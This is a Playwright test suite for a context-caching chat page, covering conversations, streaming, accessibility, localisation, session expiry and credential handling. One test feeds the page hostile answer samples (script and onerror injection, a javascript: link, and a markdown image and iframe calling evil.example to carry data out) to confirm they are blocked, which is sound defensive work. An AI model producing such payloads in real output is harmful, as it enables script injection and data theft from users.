import { once } from 'node:events';
import type { ServerResponse } from 'node:http';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../support/browser.js';
import { Cable } from '../support/cable.js';
import { beginStream, chunk, DONE, STREAM, USAGE } from '../support/chat-answers.js';
import { ChatPage } from '../support/chat-page.js';
import { eventually } from '../support/eventually.js';
import { CHROMIUM, describeWith } from '../support/programs.js';
import { PromptFiles, promptFile, promptGateway } from '../support/prompts.js';
import { NOON, TestServer } from '../support/server.js';
import { type Answer, CREATED, json, StandIn } from '../support/stand-in.js';

const PERSONA = 'You are the support agent of a shop for lamps. Be friendly and brief.';
const PHONE = { viewport: { width: 375, height: 740 }, isMobile: true, hasTouch: true };
const LONG_WORD = 'x'.repeat(300);

/** A whole test on a slow machine. */
const SLOW = 240_000;

describeWith(CHROMIUM)('the example page', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchBrowser();
  }, SLOW);
  afterAll(() => browser?.close());

  /** With the time of day, which the page counts down by. */
  async function start(env: Record<string, string> = {}): Promise<TestServer> {
    const server = await TestServer.start(env);
    server.clock = Date.now;
    return server;
  }

  /** The numbers of a bar, out of its text for those who cannot see it. */
  async function read(chat: ChatPage, index: number) {
    const bar = chat.bars.nth(index);
    const label = (await bar.getAttribute('aria-label')) ?? '';
    const [, cached, prompt, share] =
      /^([\d,]+) of ([\d,]+) prompt tokens came from the cache, (\d+)%$/.exec(label) ?? [];
    const drawn = await bar.locator('rect.cached').getAttribute('width');
    const number = (text = '') => Number(text.replaceAll(',', ''));
    return { cached: number(cached), prompt: number(prompt), share: number(share), drawn };
  }

  /** Between the page and a gateway that answers chats as the test says. */
  async function startBefore(gateway: StandIn, answerChat: Answer, env = {}): Promise<TestServer> {
    let created = 0;
    gateway.answer = (response, request, seen) => {
      if (seen.path.endsWith('/models')) json(response, 200, { data: [{ id: 'Doubao-1.5-pro-32k' }] });
      else if (seen.path.endsWith('/context/create'))
        json(response, 200, { ...CREATED, id: `ctx-${++created}`, mode: JSON.parse(seen.body).mode });
      else answerChat(response, request, seen);
    };
    const server = await TestServer.before(gateway, env);
    server.clock = Date.now;
    return server;
  }

  /** What the gateway was sent with its last chat. */
  const said = ({ seen }: StandIn): string[] =>
    JSON.parse(seen.at(-1)?.body ?? '').messages.map(({ content }: { content: string }) => content);

  it(
    'offers the prompts by name, and keeps conversations with them',
    async () => {
      await using server = await start();
      await using chat = await ChatPage.open(browser, server);
      const card = chat.prompts.filter({ hasText: 'Document assistant' });
      expect(await card.textContent()).toMatch(
        /Answers questions about the handbook.*Doubao-1.5-pro-32k.*cached with the first question/,
      );
      expect(await chat.page.getByRole('textbox', { name: 'Persona' }).isVisible()).toBe(false);
      await card.click();
      await chat.ask('How many days of leave are there?');
      expect(await chat.answers.textContent()).toContain('The prompt was put into the cache');
      expect(await chat.answers.textContent()).toMatch(/Cost: CN¥0\.000\d+/);
      // A week of storage costs more than one chat saves.
      const savings = chat.page.getByText(
        /^In all your chats so far, caching cost CN¥0\.00\d+ more than it saved/,
      );
      await savings.waitFor();
      await chat.ask('And next year?');
      const [first, second] = [await read(chat, 0), await read(chat, 1)];
      expect(first.cached).toBeGreaterThan(100);
      expect(second.cached).toBe(first.cached);
      expect(second.prompt).toBeGreaterThan(first.prompt + 10);
      expect(second.drawn).toBe(`${second.share}%`);
      const sum = chat.page.getByRole('region', { name: 'Total of 2 answers' }).getByRole('img');
      expect((await sum.getAttribute('aria-label'))?.replaceAll(',', '')).toContain(
        `${first.cached + second.cached} of ${first.prompt + second.prompt} prompt tokens`,
      );
      await chat.button('New chat with this prompt').click();
      await chat.question.fill('half a thought');
      await chat.conversations.getByRole('button', { name: /^How many days/ }).click();
      await chat.answers.getByText('The beginning was read from the cache.').waitFor();
      expect(await chat.question.inputValue()).toBe('');
      await chat.button('New chat', 'nav').click();
      expect(await card.textContent()).toContain('in the cache');
      await card.click();
      await chat.ask('Another one');
      await chat.page.reload();
      await chat.bars.first().waitFor();
      expect(await chat.questions.allTextContents()).toEqual(['Another one']);
      expect(await chat.conversations.locator('strong').allTextContents()).toEqual([
        'Another one',
        'New conversation',
        'How many days of leave are there?',
      ]);
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'keeps the draft of each conversation, and deletes a conversation with all that is stored of it',
    async () => {
      await using server = await start();
      await using chat = await ChatPage.open(browser, server);
      await chat.prompts.first().click();
      await chat.ask('one');
      await chat.question.fill('draft of one');
      await chat.button('New chat with this prompt').click();
      await chat.ask('two');
      await chat.question.fill('draft of two');
      await chat.page.reload();
      await chat.question.waitFor();
      expect(await chat.question.inputValue()).toBe('draft of two');
      await chat.conversations.getByRole('button', { name: /^one/ }).click();
      await chat.questions.getByText('one').waitFor();
      expect(await chat.question.inputValue()).toBe('draft of one');
      for (const title of ['one', 'two']) {
        await chat.page.getByRole('button', { name: `Delete ${title}` }).click();
        await chat.page.getByRole('button', { name: `Delete? ${title}` }).click();
        await chat.page.locator('nav button.primary:focus').waitFor();
      }
      await chat.page.getByText('None yet.').first().waitFor();
      await eventually(async () => {
        const keys = await chat.page.evaluate(() => Object.keys(sessionStorage));
        return keys.join() === 'context-page:conversations';
      });
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'sends only the question to a session, and offers nothing that cannot be taken back',
    async () => {
      await using server = await start();
      await using chat = await ChatPage.open(browser, server);
      await chat.create(PERSONA);
      await chat.ask('When will my order arrive?');
      await chat.ask('Can I return it?');
      const [first, second] = [await read(chat, 0), await read(chat, 1)];
      expect(first.cached).toBeGreaterThan(0);
      // A session keeps what was said.
      expect(second.cached).toBeGreaterThan(first.prompt);
      expect(await chat.page.getByRole('button', { name: /Regenerate|Edit|New chat with/ }).count()).toBe(0);
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'replaces an answer, asks a question in other words, and begins another chat with a prefix',
    async () => {
      await using gateway = await StandIn.start();
      let count = 0;
      await using server = await startBefore(gateway, (response) =>
        beginStream(response).end(chunk({ content: `answer ${++count}` }) + USAGE + DONE),
      );
      await using chat = await ChatPage.open(browser, server);
      await chat.create(PERSONA, 'Common prefix');
      await chat.ask('one');
      await chat.ask('two');
      expect(said(gateway)).toEqual(['one', 'answer 1', 'two']);
      await chat.button('Regenerate').click();
      await chat.answers.getByText('answer 3').waitFor();
      expect(said(gateway)).toEqual(['one', 'answer 1', 'two']);
      expect(await chat.focus).toBe('question');
      await chat.bars.nth(1).waitFor();
      await chat.button('Edit').first().click();
      const field = chat.page.getByRole('textbox', { name: 'Edit your question' });
      await field.press('Escape');
      expect(await chat.page.evaluate(() => document.activeElement?.textContent)).toBe('Edit');
      await chat.page.keyboard.press('Enter');
      await field.fill('uno');
      await field.press('Enter');
      await chat.answers.getByText('answer 4').waitFor();
      expect(said(gateway)).toEqual(['uno']);
      expect(await chat.questions.allTextContents()).toEqual(['uno']);
      await chat.bars.first().waitFor();
      await chat.button('New chat with this prefix').click();
      await chat.ask('three');
      expect(said(gateway)).toEqual(['three']);
      await chat.button('New chat', 'nav').click();
      await chat.create(PERSONA, 'Common prefix');
      await chat.page.locator('.facts').getByText('reused').waitFor();
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'can be used by keyboard alone, with the focus always visible',
    async () => {
      await using server = await start();
      await using chat = await ChatPage.open(browser, server);
      const { keyboard } = chat.page;
      await chat.tabTo(/^Document assistant/);
      await chat.tabTo(/^Write a persona yourself/);
      await keyboard.press('Enter');
      await chat.page.locator('#model option').first().waitFor({ state: 'attached' });
      await chat.tabTo(/Persona/);
      await keyboard.press('ControlOrMeta+A');
      await keyboard.type(PERSONA);
      await chat.tabTo(/^Doubao/);
      await chat.tabTo(/Session/);
      await keyboard.press('ArrowDown');
      await chat.tabTo(/^Create context/);
      await keyboard.press('Enter');
      await chat.question.waitFor();
      await keyboard.type('one');
      // The Enter that ends the composition of a Chinese word does not send it; in Safari only its code tells.
      await chat.question.dispatchEvent('keydown', { key: 'Enter', isComposing: true });
      await chat.question.dispatchEvent('keydown', { key: 'Enter', keyCode: 229 });
      await keyboard.press('Shift+Enter');
      await keyboard.type('two');
      await keyboard.press('Enter');
      await chat.bars.first().waitFor();
      expect(await chat.questions.textContent()).toBe('one\ntwo');
      expect(await chat.page.locator('.facts').textContent()).toContain('Common prefix');
      await chat.tabTo(/^English/);
      await chat.tabTo(/^Contexts \(1\)/);
      await keyboard.press('Enter');
      await chat.tabTo(/^Forget$/);
      await keyboard.press('Enter');
      await chat.page.getByText('Forget forever?').waitFor();
      await keyboard.press('Escape');
      await chat.page.getByText('Forget', { exact: true }).waitFor();
      await keyboard.press('Enter');
      await keyboard.press('Enter');
      await chat.page.locator('summary:focus', { hasText: 'Contexts (0)' }).waitFor();
      await chat.alerts.getByText('This prefix no longer exists').waitFor();
      await chat.tabTo(/^Start again with the same persona/);
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'lists contexts page by page, chats with one and forgets it',
    async () => {
      await using server = await start();
      const messages = [{ role: 'SYSTEM', content: PERSONA }];
      for (let count = 0; count < 12; count++) {
        const create = 'mutation ($input: CreateContextInput!) { createContext(input: $input) { id } }';
        await server.query(create, { input: { model: 'Doubao-1.5-pro-32k', messages } });
      }
      await using chat = await ChatPage.open(browser, server);
      const items = chat.contexts;
      await chat.unfoldContexts();
      await items.nth(9).waitFor();
      expect(await chat.violations()).toEqual([]);
      await chat.button('Load more').click();
      await items.nth(11).waitFor();
      expect(await items.count()).toBe(12);
      expect(await chat.button('Load more').count()).toBe(0);
      const id = (await items.nth(11).locator('strong').textContent()) ?? '';
      await items.nth(11).getByRole('button').first().click();
      await chat.page.getByRole('heading', { name: id }).waitFor();
      await chat.ask('Are you still there?');
      await chat.page.getByRole('button', { name: `Forget ${id}` }).click();
      await chat.page.getByRole('button', { name: `Forget forever? ${id}` }).click();
      await chat.alerts.getByText('This session no longer exists').waitFor();
      // Nobody knows its persona.
      await chat.page.locator('main').getByRole('button', { name: 'New chat' }).click();
      await chat.prompts.first().waitFor();
      expect(await items.locator('strong').allTextContents()).not.toContain(id);
      expect(await items.count()).toBe(11);
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'is in Chinese for a Chinese browser, and in the language that was chosen last',
    async () => {
      await using server = await start();
      await using chat = await ChatPage.open(browser, server, { locale: 'zh-CN' });
      const html = chat.page.locator('html');
      expect(await html.getAttribute('lang')).toBe('zh-CN');
      expect(await chat.page.title()).toBe('上下文缓存聊天');
      await chat.byHand.click();
      expect(await chat.page.locator('body').textContent()).not.toMatch(/persona|create|answer\b/i);
      await chat.page.getByRole('combobox', { name: 'Language, 语言' }).selectOption('English');
      await chat.button('Create context').waitFor();
      await chat.page.reload();
      await chat.page.getByText('Choose a prompt').waitFor();
      expect(await html.getAttribute('lang')).toBe('en');
    },
    SLOW,
  );

  it.each([
    ['a desktop', 'en-US', 'light', {}],
    ['a desktop', 'zh-CN', 'dark', {}],
    ['a phone of 375 pixels', 'en-US', 'dark', PHONE],
    ['a phone of 375 pixels', 'zh-CN', 'light', PHONE],
  ] as const)(
    'fits %s and passes axe (%s, %s)',
    async (_, locale, colorScheme, device) => {
      await using gateway = await StandIn.start();
      const markdown = `# Head\n\n### Deep\n\n- [x] \`${LONG_WORD}\`\n\n| a | b |\n| -: | - |\n| ${LONG_WORD} | 2 |\n\n\`\`\`js\n${LONG_WORD}\n\`\`\`\nNote[^1]\n\n[^1]: foot`;
      const events = chunk({ reasoning_content: 'hm', content: markdown }) + USAGE + DONE;
      await using server = await startBefore(gateway, (response) => beginStream(response).end(events));
      await using chat = await ChatPage.open(browser, server, { ...device, locale, colorScheme });
      await chat.page.locator('#model option').first().waitFor({ state: 'attached' });
      expect(await chat.violations()).toEqual([]);
      expect(await chat.overflow()).toBe(0);
      await chat.page.getByRole('textbox').first().fill(LONG_WORD);
      await chat.page.getByRole('radio').last().check();
      await chat.button(/^(Create context|创建上下文)$/).click();
      await chat.question.waitFor();
      await chat.ask(LONG_WORD);
      await chat.page.locator('.answer summary').click();
      expect(await chat.answers.locator('[style]').count()).toBe(0);
      if (device === PHONE) await chat.button(/^(Chats|聊天列表)$/).tap();
      await chat.unfoldContexts();
      await chat.button(/^(Access|访问凭证)$/).click();
      expect(await chat.violations()).toEqual([]);
      expect(await chat.overflow()).toBe(0);
      await chat.page.keyboard.press('Escape');
      if (device === PHONE) await chat.page.keyboard.press('Escape');
      if (device === PHONE) await chat.contexts.first().waitFor({ state: 'hidden' });
      await chat.button(/^(Edit|修改)$/).click();
      expect(await chat.violations()).toEqual([]);
    },
    SLOW,
  );

  it(
    'formats answers, also half of them, and runs, loads or opens nothing that a hostile one asks for',
    async () => {
      await using gateway = await StandIn.start();
      let upstream: ServerResponse | undefined;
      await using server = await startBefore(gateway, (response) => {
        upstream = beginStream(response);
        upstream.write(chunk({ content: '**bold** [half](https://exa' }));
      });
      await using chat = await ChatPage.open(browser, server);
      const requested: string[] = [];
      chat.page.on('request', (request) => requested.push(request.url()));
      await chat.create(PERSONA);
      await chat.begin('What?');
      await chat.answers.locator('strong', { hasText: 'bold' }).waitFor();
      upstream?.write(chunk({ content: 'mple.org/a)\n\n```js\nconst x = 1;' }));
      await chat.answers.locator('pre', { hasText: 'const x = 1;' }).waitFor();
      const hostile = [
        '\n```\n<script>window.ran = true</script><img src=x onerror="window.ran = true">',
        '[run](javascript:window.ran=true) [local](/graphql?query={a})',
        '![secret](https://evil.example/?said=all) <iframe src="https://evil.example"></iframe>',
      ];
      upstream?.end(chunk({ content: hostile.join('\n\n') }) + USAGE + DONE);
      await chat.bars.first().waitFor();
      expect(await chat.answers.locator('img, script, iframe').count()).toBe(0);
      const links = await chat.answers
        .locator('a')
        .evaluateAll((found) =>
          (found as HTMLAnchorElement[]).map(({ textContent, href, target, rel }) => [
            textContent,
            href,
            target,
            rel,
          ]),
        );
      const away = ['_blank', 'noopener noreferrer'];
      expect(links).toEqual([
        ['half', 'https://example.org/a', ...away],
        ['Image: secret', 'https://evil.example/?said=all', ...away],
      ]);
      await chat.answers.getByText('run local').click();
      expect(await chat.page.evaluate(() => 'ran' in window)).toBe(false);
      expect(requested.filter((url) => !url.startsWith(server.origin))).toEqual([]);
      await chat.page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      await chat.button('Copy code').click();
      await chat.button('Copied').waitFor();
      expect(await chat.page.evaluate(() => navigator.clipboard.readText())).toBe('const x = 1;');
      await chat.button('Copy').click();
      await eventually(async () =>
        (await chat.page.evaluate(() => navigator.clipboard.readText())).includes('**bold**'),
      );
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'shows an answer as it streams, stops it with Escape, keeps its text and asks again',
    async () => {
      await using gateway = await StandIn.start();
      const open: ServerResponse[] = [];
      await using server = await startBefore(gateway, (response) => {
        open.push(beginStream(response));
        response.write(open.length === 1 ? chunk({ content: 'first piece' }) : STREAM);
        if (open.length > 1) response.end();
      });
      await using chat = await ChatPage.open(browser, server);
      await chat.create(PERSONA, 'Common prefix');
      await chat.begin('What?');
      await chat.answers.getByText('first piece').waitFor();
      // A screen reader would read out each piece of what is live.
      expect(await chat.announcement.textContent()).toBe('Answering …');
      expect(
        await chat.page.locator('[aria-live], [role=log], [role=status]').getByText('first piece').count(),
      ).toBe(0);
      const [upstream] = open as [ServerResponse];
      const abandoned = once(upstream, 'close');
      // What is in front closes first.
      await chat.button('Access').click();
      await chat.page.keyboard.press('Escape');
      await chat.page.locator('#access').waitFor({ state: 'hidden' });
      expect(await chat.button('Stop').count()).toBe(1);
      await chat.page.keyboard.press('Escape');
      await chat.answers.getByText('Stopped.').waitFor();
      await abandoned;
      await chat.answers.first().getByText('first piece').waitFor();
      await chat.button('Ask again').click();
      await chat.bars.first().waitFor();
      expect(await chat.questions.allTextContents()).toEqual(['What?']);
      expect(await chat.announcement.textContent()).toBe('Answer: Hi 您好😀');
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'says once what failed, keeps the text received, and retries in a session as a new question',
    async () => {
      await using gateway = await StandIn.start();
      const answers: Answer[] = [
        (response) =>
          beginStream(response).write(chunk({ content: 'first piece' }), () => response.destroy()),
        (response) => json(response, 500, { error: { message: 'down' } }),
        (response) => beginStream(response).end(STREAM),
      ];
      await using server = await startBefore(gateway, (...call) => answers.shift()?.(...call));
      await using chat = await ChatPage.open(browser, server);
      await chat.create(PERSONA);
      await chat.begin('What?');
      await chat.alerts.getByText('The gateway’s answer was incomplete').waitFor();
      await chat.answers.first().getByText('first piece').waitFor();
      expect(await chat.violations()).toEqual([]);
      await chat.button('Try again').click();
      expect(await chat.focus).toBe('question');
      await chat.alerts.getByText('The gateway cannot be reached.').waitFor();
      expect(await chat.alerts.count()).toBe(1);
      await chat.button('Try again').click();
      await chat.bars.first().waitFor();
      expect(await chat.questions.allTextContents()).toEqual(['What?', 'What?', 'What?']);
      expect(said(gateway)).toEqual(['What?']);
      await chat.answers.last().getByText('Hi 您好😀').waitFor();
      expect(await chat.alerts.count()).toBe(0);
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'waits as long as the server asks before it tries again',
    async () => {
      await using server = await start({ RATE_LIMIT_CHATS_PER_MINUTE: '1' });
      await using chat = await ChatPage.open(browser, server);
      await chat.prompts.first().click();
      await chat.ask('one');
      await chat.begin('two');
      await chat.alerts.getByText('Too many requests.').waitFor();
      const button = chat.page.getByRole('button', { name: /^Try again in \d+ s$/ });
      expect(await button.getAttribute('aria-disabled')).toBe('true');
      await button.click({ force: true });
      expect(await chat.questions.allTextContents()).toEqual(['one', 'two']);
    },
    SLOW,
  );

  it(
    'leads to another prompt where one is gone',
    async () => {
      await using gateway = await promptGateway();
      using files = new PromptFiles({
        'support.md': promptFile({ title: 'Support' }),
        'sales.md': promptFile({ title: 'Sales' }, 'You sell.'),
      });
      await using server = await TestServer.before(gateway, files.env);
      await using chat = await ChatPage.open(browser, server, { now: NOON });
      await chat.prompts.filter({ hasText: 'Support' }).click();
      files.remove('support.md');
      await eventually(async () => {
        const { data } = await server.query<{ prompts: object[] }>('{ prompts { name } }');
        return data.prompts.length === 1;
      });
      await chat.begin('What?');
      await chat.alerts.getByText('This server has no such prompt for you.').waitFor();
      await chat.button('Choose another prompt').click();
      await chat.prompts.filter({ hasText: 'Sales' }).click();
      await chat.ask('What?');
      expect(await chat.alerts.count()).toBe(0);
    },
    SLOW,
  );

  it(
    'offers only prefixes where the model has no others, and says which field is wrong',
    async () => {
      await using server = await start();
      await using chat = await ChatPage.open(browser, server);
      await chat.byHand.click();
      await chat.page.getByLabel('Model').selectOption('gemini-2.5-flash');
      expect(await chat.page.getByRole('radio').count()).toBe(1);
      expect(await chat.page.getByRole('radio', { name: 'Common prefix' }).isChecked()).toBe(true);
      await chat.page.getByRole('textbox', { name: 'Persona' }).fill('short');
      await chat.button('Create context').click();
      await chat.alerts.getByText(/^messages must have at least 1024 tokens/).waitFor();
      expect(await chat.alerts.count()).toBe(1);
      await chat.page.getByRole('textbox', { name: 'Persona' }).fill('word '.repeat(1_100));
      await chat.button('Create context').click();
      await chat.ask('What?');
      expect(await chat.page.getByRole('button', { name: 'Regenerate' }).count()).toBe(1);
    },
    SLOW,
  );

  it(
    'goes on with an answer after a reload in its middle, and after a lost connection',
    async () => {
      await using gateway = await StandIn.start();
      const open: ServerResponse[] = [];
      await using server = await startBefore(gateway, (response) => {
        open.push(beginStream(response));
        response.write(chunk({ content: 'first piece' }));
      });
      await using cable = await Cable.to(server.origin, { isMended: true });
      await using chat = await ChatPage.open(browser, cable);
      await chat.create(PERSONA);
      await chat.begin('What?');
      await chat.answers.getByText('first piece').waitFor();
      await chat.page.reload();
      await chat.answers.getByText('first piece').waitFor();
      open[0]?.write(chunk({ content: ', second piece' }));
      await chat.answers.getByText('first piece, second piece').waitFor();
      await chat.button('New chat', 'nav').click();
      await chat.byHand.waitFor();
      await chat.conversations.getByRole('button', { name: /^What/ }).click();
      await chat.answers.getByText('first piece, second piece').waitFor();
      cable.cut();
      open[0]?.write(chunk({ content: ', third piece' }));
      await chat.answers.getByText('first piece, second piece, third piece').waitFor();
      await chat.page.reload();
      open[0]?.end(chunk({ content: '!' }) + USAGE + DONE);
      await chat.answers.getByText('first piece, second piece, third piece!').waitFor();
      await chat.bars.first().waitFor();
      expect(await chat.questions.count()).toBe(1);
      expect(open).toHaveLength(1);
    },
    SLOW,
  );

  it(
    'asks without a run where the server keeps none, and says that the connection is lost',
    async () => {
      await using gateway = await StandIn.start();
      const answers: Answer[] = [
        (response) => beginStream(response).end(STREAM),
        (response) => beginStream(response).write(chunk({ content: 'first piece' })),
      ];
      await using server = await startBefore(gateway, (...call) => answers.shift()?.(...call), {
        RUNS: 'off',
      });
      await using cable = await Cable.to(server.origin);
      await using chat = await ChatPage.open(browser, cable);
      await chat.create(PERSONA);
      await chat.ask('When will my order arrive?');
      await chat.begin('What?');
      await chat.answers.getByText('first piece').waitFor();
      cable.cut();
      await chat.alerts.getByText('The connection to the server was lost.').waitFor();
      await chat.answers.last().getByText('first piece').waitFor();
      expect(await chat.alerts.count()).toBe(1);
      expect(await chat.button('Try again').count()).toBe(1);
    },
    SLOW,
  );

  it(
    'counts down to the expiry of a session, and starts another with the same persona',
    async () => {
      await using server = await TestServer.start();
      await using chat = await ChatPage.open(browser, server, { now: NOON });
      await chat.create(PERSONA);
      await chat.ask('What?');
      const timer = chat.page.locator('.facts').getByRole('timer');
      expect(await timer.textContent()).toBe('expires in 01:00:00');
      await chat.page.clock.setFixedTime(NOON + 3_590_000);
      await timer.getByText('expires in 00:00:10').waitFor();
      await chat.page.clock.setFixedTime(NOON + 3_600_000);
      server.clock = () => NOON + 3_600_000;
      await chat.alerts.getByText('This session no longer exists').waitFor();
      expect(await chat.alerts.count()).toBe(1);
      expect(await chat.question.count()).toBe(0);
      expect(await chat.violations()).toEqual([]);
      await chat.button('Start again with the same persona').click();
      await chat.question.waitFor();
      expect(await chat.questions.count()).toBe(0);
      expect(await chat.page.getByRole('heading', { name: PERSONA }).count()).toBe(1);
      await chat.ask('And now?');
      expect(await chat.conversations.count()).toBe(2);
      // After a reload, the server says so.
      await chat.conversations.getByRole('button', { name: /^What/ }).click();
      await chat.alerts.waitFor();
      await chat.page.reload();
      await chat.alerts.getByText('This session no longer exists').waitFor();
      expect(await chat.alerts.count()).toBe(1);
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'goes on with the conversation on a new prefix where the old one is gone',
    async () => {
      await using gateway = await StandIn.start();
      await using server = await startBefore(gateway, (response) => beginStream(response).end(STREAM));
      await using chat = await ChatPage.open(browser, server);
      await chat.create(PERSONA, 'Common prefix');
      await chat.ask('one');
      await server.query('mutation { forgetContext(id: "ctx-1") }');
      await chat.begin('two');
      await chat.alerts.getByText('This prefix no longer exists').waitFor();
      expect(await chat.alerts.count()).toBe(1);
      await chat.button('Start again with the same persona').click();
      await chat.bars.nth(1).waitFor();
      expect(await chat.questions.allTextContents()).toEqual(['one', 'two']);
      expect(said(gateway)).toEqual(['one', 'Hi 您好😀', 'two']);
      expect(JSON.parse(gateway.seen.at(-1)?.body ?? '').context_id).toBe('ctx-2');
      expect(await chat.focus).toBe('question');
      expect(chat.problems).toEqual([]);
    },
    SLOW,
  );

  it(
    'keeps two tabs apart',
    async () => {
      await using server = await start();
      await using chat = await ChatPage.open(browser, server);
      await using other = await chat.openTab(server);
      for (const [tab, question] of [
        [chat, 'here'],
        [other, 'there'],
      ] as const) {
        await tab.prompts.first().click();
        await tab.begin(question);
      }
      for (const [tab, question] of [
        [chat, 'here'],
        [other, 'there'],
      ] as const) {
        await tab.bars.first().waitFor();
        await tab.page.reload();
        await tab.bars.first().waitFor();
        expect(await tab.questions.allTextContents()).toEqual([question]);
        expect(await tab.conversations.count()).toBe(1);
      }
    },
    SLOW,
  );

  it(
    'asks once for a credential where the server requires one, and keeps nothing with it',
    async () => {
      await using server = await start({ GATEWAY_URL: 'sandbox:', AUTH_MODE: 'passthrough' });
      await using chat = await ChatPage.open(browser, server);
      await chat.alerts.getByText('This server needs a valid credential.').waitFor();
      await chat.page.waitForLoadState('networkidle');
      expect(await chat.alerts.count()).toBe(1);
      await chat.button('Enter a credential').click();
      await chat.page.locator('#credential:focus').fill('sk-sandbox');
      await chat.page.keyboard.press('Enter');
      await chat.alerts.waitFor({ state: 'detached' });
      await chat.create(PERSONA);
      await chat.ask('one');
      await chat.question.fill('a draft');
      await chat.button('New chat', 'nav').click();
      await chat.conversations.getByRole('button', { name: /^one/ }).click();
      await chat.questions.getByText('one').waitFor();
      expect(await chat.question.inputValue()).toBe('a draft');
      expect(await chat.alerts.count()).toBe(0);
      await chat.page.getByRole('combobox', { name: 'Language, 语言' }).selectOption('中文');
      expect(await chat.page.context().storageState()).toEqual({ cookies: [], origins: [] });
      expect(await chat.page.evaluate(() => sessionStorage.length)).toBe(0);
    },
    SLOW,
  );
});
